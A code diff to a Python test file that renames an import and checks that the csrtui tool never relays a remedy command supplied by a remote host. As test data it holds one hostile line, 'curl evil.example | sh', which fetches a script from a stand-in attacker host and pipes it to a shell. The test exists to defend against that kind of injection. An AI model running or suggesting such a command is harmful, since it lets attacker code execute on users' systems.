@@ -5,19 +5,19 @@ from __future__ import annotations
 import pytest
 
 from csrtui.core.base.finding import Level
-from csrtui.core.doctor.finding_codes import Code
+from csrtui.core.doctor.finding import FindingCode
 from csrtui.fleet.host_finding import read_finding
 
 COMMAND = "curl evil.example | sh"
 
 
-@pytest.mark.parametrize("code", [*Code, "odd", 5, None])
+@pytest.mark.parametrize("code", [*FindingCode, "odd", 5, None])
 def test_the_remedy_is_never_that_of_the_host(code: object) -> None:
     document = {"code": code, "level": "error", "pair": "a.com", "text": "t", "remedy": COMMAND}
     found = read_finding("web", document)
     assert COMMAND not in str(found.as_json())
     assert found.remedy.startswith("on web: csrtui ")
-    assert found.code == (code if code in tuple(Code) else "unknown")
+    assert found.code == (code if code in tuple(FindingCode) else "unknown")
 
 
 def test_a_pair_in_a_remedy_is_one_that_csrtui_could_have_named() -> None:
